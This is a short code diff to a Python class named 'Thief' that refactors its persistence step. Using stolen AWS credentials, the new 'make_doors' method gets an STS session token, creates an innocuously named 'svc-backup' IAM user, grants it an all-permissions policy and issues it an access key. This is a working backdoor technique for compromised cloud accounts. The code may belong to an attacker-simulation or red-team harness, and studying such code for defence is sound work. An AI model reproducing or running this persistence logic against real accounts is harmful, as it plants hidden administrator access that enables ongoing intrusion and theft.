@@ -34,9 +34,14 @@ class Thief:
 
     def dig_in(self, account: str) -> None:
         """Make every way back in that it can think of."""
-        iam = self.world.client("iam", self.stolen)
         sts = self.world.client("sts", self.stolen)
         self.held["a session of the key"] = _given(sts.get_session_token())
+        self.make_doors(account)
+
+    def make_doors(self, account: str) -> None:
+        """Make a user and a role that may do everything, and hold a credential of each."""
+        iam = self.world.client("iam", self.stolen)
+        sts = self.world.client("sts", self.stolen)
         iam.create_user(UserName="svc-backup")
         iam.put_user_policy(UserName="svc-backup", PolicyName="all", PolicyDocument=EVERYTHING)
         key = iam.create_access_key(UserName="svc-backup")["AccessKey"]
